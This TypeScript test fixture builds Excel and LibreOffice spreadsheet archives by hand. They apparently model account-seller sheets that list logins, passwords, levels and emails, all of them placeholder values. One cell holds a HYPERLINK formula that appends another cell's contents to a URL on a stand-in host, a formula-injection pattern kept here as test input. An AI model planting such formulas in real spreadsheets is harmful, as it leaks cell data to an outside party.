// Spreadsheets for the tests, zipped by Python's zipfile (make_archive.py) from parts written
// here after the specifications, as Excel and LibreOffice write them (neither runs here):
// - .xlsx: ECMA-376 Part 2 (OPC) §9.3 relationships, `[Content_Types].xml` §10.1; Part 1 §18.2.19
//   `<sheet>`, §18.3.1.73 `<row>`, §18.3.1.4 `<c>` and its `t` (§18.18.11), §18.3.1.40 `<f>`,
//   §18.4.8 `<si>` with rich runs and a phonetic `<rPh>`; .NET's Open XML SDK's `x:` prefix.
// - .ods: OASIS ODF 1.2 Part 3 §3.3 (`mimetype` stored first), §3.2 the manifest; Part 1 §9.1.2-9.1.4
//   tables, rows and cells, §19.675/§19.680 repeats (LibreOffice's padding to the sheet's edge),
//   §19.385 `office:value-type`, §14.1 `<office:annotation>`, §6.1.3 `<text:s>`.
import type { ArchiveSpec, Member } from '../helpers/archives.js';

const XML = '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n';
const MAIN = 'http://schemas.openxmlformats.org/spreadsheetml/2006/main';
const REL = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships';
const PKG = 'http://schemas.openxmlformats.org/package/2006/relationships';

/** An .xlsx's parts: `sheets` each a `<sheetData>` body (or a whole part, prefixed), `strings` the `<si>` items. */
export function xlsxMembers(sheets: { name: string; data: string; whole?: boolean }[], strings: string[] = []): Member[] {
  return [
    { name: '[Content_Types].xml', text: `${XML}<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/><Override PartName="/xl/workbook.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/>${sheets.map((_, i) => `<Override PartName="/xl/worksheets/sheet${i + 1}.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/>`).join('')}</Types>` },
    { name: '_rels/.rels', text: `${XML}<Relationships xmlns="${PKG}"><Relationship Id="rId1" Type="${REL}/officeDocument" Target="xl/workbook.xml"/></Relationships>` },
    { name: 'xl/workbook.xml', text: `${XML}<workbook xmlns="${MAIN}" xmlns:r="${REL}"><bookViews><workbookView/></bookViews><sheets>${sheets.map((s, i) => `<sheet name="${s.name}" sheetId="${i + 1}" r:id="rId${i + 1}"/>`).join('')}</sheets><calcPr calcId="191029"/></workbook>` },
    { name: 'xl/_rels/workbook.xml.rels', text: `${XML}<Relationships xmlns="${PKG}">${sheets.map((_, i) => `<Relationship Id="rId${i + 1}" Type="${REL}/worksheet" Target="worksheets/sheet${i + 1}.xml"/>`).join('')}<Relationship Id="rId90" Type="${REL}/sharedStrings" Target="sharedStrings.xml"/><Relationship Id="rId91" Type="${REL}/styles" Target="styles.xml"/></Relationships>` },
    { name: 'xl/styles.xml', text: `${XML}<styleSheet xmlns="${MAIN}"><cellXfs count="2"><xf numFmtId="0"/><xf numFmtId="2"/></cellXfs></styleSheet>` },
    { name: 'xl/sharedStrings.xml', text: `${XML}<sst xmlns="${MAIN}" count="${strings.length}" uniqueCount="${strings.length}">${strings.map((s) => (s.startsWith('<') ? `<si>${s}</si>` : `<si><t>${s}</t></si>`)).join('')}</sst>` },
    ...sheets.map((s, i) => ({ name: `xl/worksheets/sheet${i + 1}.xml`, text: s.whole ? XML + s.data : `${XML}<worksheet xmlns="${MAIN}" xmlns:r="${REL}"><dimension ref="A1:E9"/><sheetData>${s.data}</sheetData><pageMargins left="0.7" right="0.7" top="0.75" bottom="0.75" header="0.3" footer="0.3"/></worksheet>` })),
  ];
}

const ODS_NS = 'xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" xmlns:table="urn:oasis:names:tc:opendocument:xmlns:table:1.0" xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0" xmlns:dc="http://purl.org/dc/elements/1.1/" xmlns:calcext="urn:org:documentfoundation:names:experimental:calc:xmlns:calcext:1.0" xmlns:of="urn:oasis:names:tc:opendocument:xmlns:of:1.2"';

/** An .ods's parts, `tables` the `<table:table>` elements of its `content.xml`. */
export function odsMembers(tables: string): Member[] {
  return [
    { name: 'mimetype', text: 'application/vnd.oasis.opendocument.spreadsheet', stored: true },
    { name: 'META-INF/manifest.xml', text: `${XML}<manifest:manifest xmlns:manifest="urn:oasis:names:tc:opendocument:xmlns:manifest:1.0" manifest:version="1.2"><manifest:file-entry manifest:full-path="/" manifest:media-type="application/vnd.oasis.opendocument.spreadsheet"/><manifest:file-entry manifest:full-path="content.xml" manifest:media-type="text/xml"/></manifest:manifest>` },
    { name: 'content.xml', text: `${XML}<office:document-content ${ODS_NS} office:version="1.2"><office:automatic-styles/><office:body><office:spreadsheet><table:calculation-settings table:automatic-find-labels="false"/>${tables}<table:named-expressions/></office:spreadsheet></office:body></office:document-content>` },
  ];
}

const s = (i: number) => `t="s"><v>${i}</v>`;

/** A seller's workbook as Excel saves it: shared strings, a title row, a formula's saved value, an error, rich text; a second sheet by the Open XML SDK. */
export const SELLER_XLSX = xlsxMembers(
  [
    {
      name: 'Stock',
      data: [
        `<row r="1" spans="1:5"><c r="A1" ${s(0)}</c></row>`,
        `<row r="3" spans="1:5"><c r="A3" ${s(1)}</c><c r="B3" ${s(2)}</c><c r="C3" ${s(3)}</c><c r="D3" ${s(4)}</c><c r="E3" ${s(5)}</c></row>`,
        `<row r="4"><c r="A4" ${s(6)}</c><c r="B4" ${s(7)}</c><c r="C4"><v>30</v></c><c r="D4" ${s(8)}</c><c r="E4" t="e"><f>VLOOKUP(A4,Z:Z,2,0)</f><v>#N/A</v></c></row>`,
        `<row r="5"><c r="A5" ${s(9)}</c><c r="B5" ${s(10)}</c><c r="C5" s="1"><f>C4+1</f><v>31</v></c><c r="E5" t="str"><f>"ok"</f><v>ok</v></c></row>`,
        `<row r="6"><c r="A6" ${s(11)}</c><c r="B6" ${s(12)}</c><c r="C6"><v>30</v></c></row>`,
        `<row r="7"><c r="A7" s="1"/><c r="B7" s="1"/></row>`,
        `<row r="8"><c r="A8" ${s(13)}</c><c r="B8" ${s(14)}</c><c r="C8"><v>30</v></c><c r="E8" t="b"><v>1</v></c></row>`,
        `<row r="9"><c r="A9" t="inlineStr"><is><t>ash_x04</t></is></c><c r="B9"><v>123456789</v></c><c r="C9"><v>32</v></c></row>`,
      ].join(''),
    },
    {
      name: 'Level 35',
      whole: true,
      data: `<x:worksheet xmlns:x="${MAIN}"><x:sheetData><x:row><x:c t="inlineStr"><x:is><x:t>Level</x:t></x:is></x:c><x:c t="inlineStr"><x:is><x:t>Username</x:t></x:is></x:c><x:c t="inlineStr"><x:is><x:t>Password</x:t></x:is></x:c></x:row><x:row><x:c><x:v>35</x:v></x:c><x:c t="inlineStr"><x:is><x:t>misty_y1</x:t></x:is></x:c><x:c t="inlineStr"><x:is><x:t>Y#pass&amp;1</x:t></x:is></x:c></x:row></x:sheetData></x:worksheet>`,
    },
    { name: 'Sheet3', data: '' },
  ],
  [
    'Order #20231 - PTC accounts',
    'Login',
    'Password',
    'Level',
    'Email',
    'Note',
    'ash_x01',
    'Pw,1&quot;q',
    'a1@mail.example',
    'ash_x02',
    'Two&lt;pw&gt;2',
    '=HYPERLINK("http://x.example/?"&amp;B6,"open")',
    'Formula#1',
    'ash_x03',
    '<r><t>Ri</t></r><r><rPr><b/></rPr><t>ch#9</t></r><rPh sb="0" eb="1"><t>ZZZ</t></rPh>',
  ],
);

const cell = (text: string) => `<table:table-cell office:value-type="string" calcext:value-type="string"><text:p>${text}</text:p></table:table-cell>`;
const number = (n: number, shown = `${n}`) => `<table:table-cell office:value-type="float" office:value="${n}" calcext:value-type="float"><text:p>${shown}</text:p></table:table-cell>`;
const PADDING = '<table:table-row table:number-rows-repeated="1048570"><table:table-cell table:number-columns-repeated="1024"/></table:table-row>';

/** A seller's sheet as LibreOffice saves it: header rows, a number shown formatted, spans, a comment, blank rows repeated, the padding to the sheet's edge. */
export const SELLER_ODS = odsMembers(
  [
    '<table:table table:name="Accounts" table:style-name="ta1"><table:table-column table:number-columns-repeated="3"/>',
    `<table:table-header-rows><table:table-row>${cell('Username')}${cell('Password')}${cell('Level')}<table:table-cell table:number-columns-repeated="1021"/></table:table-row></table:table-header-rows>`,
    `<table:table-row>${cell('brock_z1')}<table:table-cell office:value-type="string" calcext:value-type="string"><office:annotation><dc:creator>seller</dc:creator><text:p>old: brock_z1:OldPw#0</text:p></office:annotation><text:p>Rock<text:span text:style-name="T1">#Z1</text:span></text:p></table:table-cell>${number(30, '30.00')}<table:table-cell table:number-columns-repeated="1021"/></table:table-row>`,
    '<table:table-row table:number-rows-repeated="2"><table:table-cell table:number-columns-repeated="1024"/></table:table-row>',
    `<table:table-row>${cell('brock_z2')}${cell('a<text:s text:c="2"/>b#Z2')}<table:table-cell table:formula="of:=[.C2]+1" office:value-type="float" office:value="31" calcext:value-type="float"><text:p>31</text:p></table:table-cell></table:table-row>`,
    PADDING,
    '</table:table>',
    `<table:table table:name="Sheet2"><table:table-column table:number-columns-repeated="1024"/>${PADDING}</table:table>`,
  ].join(''),
);

export const spec = (out: string, members: Member[]): ArchiveSpec => ({ kind: 'zip', out, members });
